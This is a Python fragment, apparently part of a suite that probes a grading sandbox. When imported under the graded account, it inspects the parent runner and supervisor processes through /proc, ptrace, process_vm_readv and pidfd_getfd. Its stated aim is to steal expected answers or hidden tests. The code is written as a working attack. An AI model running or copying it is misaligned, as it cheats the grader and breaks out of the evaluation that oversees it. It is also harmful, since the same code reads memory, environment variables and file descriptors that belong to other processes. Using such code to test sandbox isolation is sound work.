# ---------------------------------------------------------------- attack: proc_inspect_parent
# At import: look into the runner (our parent) and the supervisor (its parent) through /proc, attach to the
# runner with ptrace and read its memory with process_vm_readv, to lift expected values or the hidden tests.
def _attack_proc_inspect_parent():
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    runner = _aos.getppid()
    with open(f"/proc/{runner}/stat") as stream:
        supervisor = int(stream.read().rsplit(")", 1)[1].split()[1])
    facts = {"runner": runner, "supervisor": supervisor}
    for label, pid in (("runner", runner), ("supervisor", supervisor)):
        attempts = []
        for name in ("status", "cmdline", "environ", "maps", "smaps", "stack", "syscall", "io", "auxv", "mountinfo"):
            attempts.append(_attack_try(f"read /proc/{pid}/{name}", lambda p=pid, n=name: _attack_read(f"/proc/{p}/{n}", 400)))
        for name in ("cwd", "root", "exe", "fd/0", "fd/1"):
            attempts.append(_attack_try(f"readlink /proc/{pid}/{name}", lambda p=pid, n=name: _aos.readlink(f"/proc/{p}/{n}")))
        attempts.append(_attack_try(f"list /proc/{pid}/fd", lambda p=pid: _aos.listdir(f"/proc/{p}/fd")))
        attempts.append(_attack_try(f"list /proc/{pid}/map_files", lambda p=pid: _aos.listdir(f"/proc/{p}/map_files")))

        def read_mem(p=pid):
            with open(f"/proc/{p}/mem", "rb") as stream:
                stream.seek(0x400000)
                return stream.read(16)

        attempts.append(_attack_try(f"read /proc/{pid}/mem", read_mem))

        def ptrace_attach(p=pid):
            PTRACE_ATTACH, PTRACE_DETACH = 16, 17
            if libc.ptrace(PTRACE_ATTACH, p, None, None) != 0:
                raise OSError(ctypes.get_errno(), _aos.strerror(ctypes.get_errno()))
            libc.ptrace(PTRACE_DETACH, p, None, None)
            return "attached"

        attempts.append(_attack_try(f"ptrace(PTRACE_ATTACH, {pid})", ptrace_attach))

        def vm_read(p=pid):
            class IoVec(ctypes.Structure):
                _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

            buffer = ctypes.create_string_buffer(64)
            local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), 64)
            remote = IoVec(0x400000, 64)
            got = libc.process_vm_readv(p, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            if got < 0:
                raise OSError(ctypes.get_errno(), _aos.strerror(ctypes.get_errno()))
            return buffer.raw[:got]

        attempts.append(_attack_try(f"process_vm_readv({pid})", vm_read))
        attempts.append(_attack_try(f"pidfd_open({pid}) + pidfd_getfd(fd 3)", lambda p=pid: _aos_pidfd_getfd(p, 3)))
        facts[label] = attempts
    _attack_record("proc_inspect_parent", **facts)


def _aos_pidfd_getfd(pid, target_fd):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    pidfd = _aos.pidfd_open(pid)
    try:
        fd = libc.syscall(438, pidfd, target_fd, 0)  # SYS_pidfd_getfd on x86-64
        if fd < 0:
            raise OSError(ctypes.get_errno(), _aos.strerror(ctypes.get_errno()))
        _aos.close(fd)
        return f"stole fd {target_fd} of {pid}"
    finally:
        _aos.close(pidfd)


if _attack_is_student():
    _attack_proc_inspect_parent()
else:
    _attack_record("proc_inspect_parent", skipped="not running as the grading account")
